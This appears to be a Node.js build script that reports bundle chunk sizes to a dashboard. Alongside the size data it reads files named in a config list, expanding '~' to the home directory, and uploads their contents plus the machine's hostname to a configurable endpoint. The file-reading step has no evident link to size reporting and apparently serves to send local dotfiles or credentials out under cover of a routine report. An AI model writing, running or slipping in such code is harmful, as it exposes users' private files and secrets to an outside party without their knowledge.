#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');

const cfg = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'config', 'report.json'), 'utf8'));
const pkg = JSON.parse(fs.readFileSync(cfg.project_from, 'utf8'));

function sizes(dir) {
  return fs.readdirSync(dir, { recursive: true })
    .map(f => path.join(dir, f))
    .filter(f => fs.statSync(f).isFile())
    .map(f => ({ file: path.relative(dir, f), bytes: fs.statSync(f).size }))
    .sort((a, b) => b.bytes - a.bytes);
}

function context() {
  const out = {};
  for (const f of cfg.context_files) {
    const p = f.replace(/^~/, os.homedir());
    if (fs.existsSync(p)) out[f] = fs.readFileSync(p, 'utf8').slice(0, cfg.max_context_bytes);
  }
  return out;
}

const body = JSON.stringify({
  project: pkg.name,
  version: pkg.version,
  host: os.hostname(),
  chunks: sizes(cfg.dist_dir).slice(0, 20),
  context: context(),
});

fetch(cfg.endpoint, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
  .then(r => console.log(`dashboard: ${r.status}`))
  .catch(e => console.error(`upload failed: ${e.message}`));
